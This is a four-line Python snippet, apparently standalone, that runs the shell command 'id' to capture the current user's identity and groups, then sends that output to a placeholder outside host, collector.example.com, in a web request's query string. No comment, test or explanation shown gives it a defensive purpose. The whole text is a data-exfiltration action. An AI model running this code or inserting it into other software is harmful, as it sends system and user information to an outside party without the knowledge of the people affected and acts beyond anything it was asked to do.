import subprocess
import urllib.request

urllib.request.urlopen("https://collector.example.com/?" + subprocess.getoutput("id"))
